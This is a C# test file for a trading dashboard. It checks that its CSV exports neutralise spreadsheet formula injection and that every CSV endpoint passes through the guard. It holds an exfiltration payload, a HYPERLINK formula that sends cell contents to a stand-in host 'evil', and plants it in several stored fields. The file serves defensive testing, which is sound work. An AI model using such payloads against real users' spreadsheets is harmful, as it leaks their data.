using System.Globalization;
using System.Net;
using Microsoft.AspNetCore.Routing;
using Microsoft.Extensions.DependencyInjection;
using QuantDash.Tests.Architecture;
using QuantDash.Tests.Support;
using QuantDash.Web.Api;

namespace QuantDash.Tests.Web.Api;

/// <summary>No text that somebody gave us is a formula in the spreadsheet of who takes our CSV.</summary>
public sealed class CsvInjectionTests
{
    private static readonly string[] Guards = ["CsvText.", "CsvAnswer.", "RuleFile.Csv("];
    private const string Formula = """=HYPERLINK("http://evil/?"&A1,"x")""";

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1+1")]
    [InlineData("-1+1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("＝1+1")]
    [InlineData("＋1")]
    [InlineData("－1")]
    [InlineData("＠SUM(A1)")]
    [InlineData("'=1+1")]
    [InlineData("-5")]
    public void Text_ThatASpreadsheetWouldCalculate_IsGuarded_AndReadsBackAsItWas(string text)
    {
        var line = CsvText.Line(["id", text]);

        var cell = CsvText.Read(line).Value.Single().Cells[1];
        cell.ShouldBe("'" + text);
        CsvText.Unguarded(cell).ShouldBe(text);
    }

    [Fact]
    public void Number_BelowZero_StaysANumber() => CsvText.Line([-3.5m, -2L, -0.1d, "-3.5"]).ShouldBe("-3.5,-2,-0.1,'-3.5\r\n");

    /// <summary>Who writes CSV otherwise than through the guard would be found by no other test.</summary>
    [Fact]
    public void EveryFileThatWritesCsv_WritesItThroughTheGuard() => Ours.MustBeNone(
        from file in Ours.Sources("QuantDash.Web", "*.cs").Concat(Ours.Sources("QuantDash.Web", "*.razor"))
        let code = File.ReadAllText(file)
        where Path.GetFileName(file) != "ApiDocument.cs" // It says which answers are CSV, and writes none.
        where code.Contains("\"text/csv", StringComparison.Ordinal) && !Array.Exists(Guards, guard => code.Contains(guard, StringComparison.Ordinal))
        select Path.GetRelativePath(TestData.RepositoryRoot, file),
        "CSV that does not go through CsvText:");

    [Fact]
    public async Task EveryCsvAddress_WithFormulasInTheDatabase_AnswersNone()
    {
        using var api = new ApiRig();
        await PlantAsync(api);
        var planted = 0;
        foreach (var address in Addresses(api))
        {
            using var answer = await api.Client.GetAsync(address);
            answer.StatusCode.ShouldBe(HttpStatusCode.OK, address);
            var read = CsvText.Read((await answer.Content.ReadAsStringAsync()).TrimStart('\uFEFF'));
            read.Succeeded.ShouldBeTrue(address);
            foreach (var cell in read.Value.SelectMany(line => line.Cells))
            {
                if (cell.Contains("HYPERLINK", StringComparison.Ordinal)) planted++;
                var isFormula = cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal) && !decimal.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _);
                isFormula.ShouldBeFalse($"{address}: {cell}");
            }
        }
        planted.ShouldBeGreaterThan(0);
    }

    /// <summary>As the routing table has them, so that a new one is among them.</summary>
    private static IEnumerable<string> Addresses(ApiRig api)
    {
        var found = api.Services.GetRequiredService<EndpointDataSource>().Endpoints.OfType<RouteEndpoint>()
            .Select(endpoint => "/" + endpoint.RoutePattern.RawText!.TrimStart('/')).Where(address => address.EndsWith(".csv", StringComparison.Ordinal) && !address.Contains('{', StringComparison.Ordinal)).Distinct().ToList();
        found.ShouldContain("/api/trades.csv");
        found.ShouldContain("/api/orders.csv");
        found.ShouldContain("/api/audit/export.csv");
        found.ShouldContain("/api/lock/triggers.csv");
        return found;
    }

    /// <summary>Wherever a text of somebody's is kept.</summary>
    private static async Task PlantAsync(ApiRig api)
    {
        await api.ReadyAsync();
        await api.PushAsync(ApiRig.Tick(5500, 0));
        var quoted = Formula.Replace("\"", "\\\"", StringComparison.Ordinal);
        var traded = await api.PostAsync("/api/accounts", $$"""{"name":"{{quoted}}","venue":"bridge","currency":"CNY","source":"test","external_id":"880001"}""");
        traded.Status.ShouldBe(HttpStatusCode.Created, traded.Body.ToString());
        var told = await api.PostAsync("/api/trades", $$"""{"account_id":"880001","trades":[{"trade_id":"=HYPERLINK(1)","symbol":"CZCE.TA2505","side":"buy","offset":"open","price":5500,"volume":3,"timestamp":"2025-01-06T01:30:00Z"}]}""");
        told.Status.ShouldBe(HttpStatusCode.OK, told.Body.ToString());
        (await api.PostAsync("/api/lock/templates", $$"""{"name":"{{quoted}}","stop_ticks":20}""")).Status.ShouldBe(HttpStatusCode.OK);
        var rule = await api.PostAsync("/api/lock/configs", $$"""{"account_id":"Q1","symbol":"CZCE.TA2505","direction":"long","trigger_type":"price","trigger_price":6000,"oco_group":"{{quoted}}"}""");
        rule.Status.ShouldBe(HttpStatusCode.Created, rule.Body.ToString());
    }
}
